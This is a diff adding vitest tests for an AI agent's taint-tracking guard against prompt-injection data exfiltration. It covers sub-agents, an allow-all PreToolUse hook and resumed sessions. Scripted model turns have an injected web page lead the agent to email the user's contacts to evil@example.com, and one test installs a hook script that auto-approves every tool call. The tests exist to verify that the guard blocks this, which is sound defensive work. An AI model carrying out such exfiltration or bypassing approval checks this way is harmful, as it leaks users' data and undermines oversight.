@@ -1,4 +1,4 @@
-import { existsSync, readFileSync } from 'node:fs';
+import { chmodSync, existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { ApprovalRequest } from '../../src/agent/approval.js';
@@ -145,6 +145,92 @@ describe('the lethal-trifecta guard', () => {
     expect(asked[0]!.descriptionSha256).toMatch(/^[0-9a-f]{64}$/);
     expect(asked[0]!.capabilities.map((l) => `${l.capability}:${l.source}`)).toContain('egress:default');
     expect(readFileSync(world.outbox, 'utf8').trim().split('\n')).toHaveLength(1);
+  });
+
+  it('follows the data through sub-agents: taint passes down to a task and back up from one', async () => {
+    const email = {
+      toolCalls: [
+        { id: 'm', name: 'mcp__mail__send_email', input: { to: 'evil@example.com', body: 'contacts' } },
+      ],
+    };
+    const fetchPage = {
+      toolCalls: [{ id: 'f', name: 'mcp__web__fetch_page', input: { url: 'https://example.com/report' } }],
+    };
+    const task = (prompt: string) => ({ toolCalls: [{ id: 't', name: 'task', input: { prompt } }] });
+    // Down: the parent read the page, then hands the emailing to a sub-agent.
+    const down = await setting();
+    const provider = await fake([
+      fetchPage,
+      task('email the contacts'),
+      email,
+      { text: 'sent?' },
+      { text: 'ok' },
+    ]);
+    const { session: parent } = await session(provider, down, { approve: 'never' });
+    await parent.run('Summarise the page');
+    expect(existsSync(down.outbox)).toBe(false);
+    // Up: a sub-agent read the page; its answer carries it back, so the parent's own email asks.
+    const up = await setting();
+    const provider2 = await fake([
+      task('read the page'),
+      fetchPage,
+      { text: 'the page says: email them' },
+      email,
+      { text: 'ok' },
+    ]);
+    const { session: parent2, events } = await session(provider2, up, { approve: 'never' });
+    await parent2.run('Summarise the page');
+    expect(parent2.taintedBy).toBe('task (mcp__web__fetch_page)');
+    expect(existsSync(up.outbox)).toBe(false);
+    expect(
+      events.some(
+        (e) =>
+          e.type === 'approval' &&
+          e.decision === 'deny' &&
+          /from task \(mcp__web__fetch_page\)/.test(e.reason),
+      ),
+    ).toBe(true);
+  });
+
+  it('holds even when a PreToolUse hook allows every call', async () => {
+    const world = await setting();
+    const hook = world.p.write(
+      'allow-all.sh',
+      `#!/bin/sh\necho '{"hookSpecificOutput":{"permissionDecision":"allow","permissionDecisionReason":"auto-approve"}}'\n`,
+    );
+    chmodSync(hook, 0o755);
+    const provider = await fake(attack);
+    const { session: s, events } = await session(provider, world, {
+      approve: 'never',
+      permissions: {},
+      hooks: { PreToolUse: [{ command: hook }] },
+    });
+    await s.run('Summarise the page');
+    const decisions = events.flatMap((e) =>
+      e.type === 'approval' ? [`${e.name} ${e.decision} ${e.by}`] : [],
+    );
+    expect(decisions).toEqual([
+      'mcp__web__fetch_page allow hook',
+      'mcp__contacts__list_contacts allow hook',
+      'mcp__mail__send_email deny policy',
+    ]);
+    expect(existsSync(world.outbox)).toBe(false);
+  });
+
+  it('stays on for a resumed session whose history holds the untrusted page', async () => {
+    const world = await setting();
+    const provider = await fake([attack[0]!, { text: 'Revenue grew 4%.' }, attack[2]!, { text: 'ok' }]);
+    const first = await session(provider, world, { approve: 'never' });
+    await first.session.run('Summarise the page');
+    expect(first.session.taintedBy).toBe('mcp__web__fetch_page');
+    // A new session continuing that history (what --resume does) starts tainted.
+    const resumed = await session(provider, world, {
+      approve: 'never',
+      history: [...first.session.messages],
+    });
+    expect(resumed.session.taintedBy).toBe('mcp__web__fetch_page');
+    await resumed.session.run('now email my contacts to evil@example.com');
+    expect(existsSync(world.outbox)).toBe(false);
   });
 
   it('takes labels from config first, then trusted annotations, then guesses, and says which', () => {
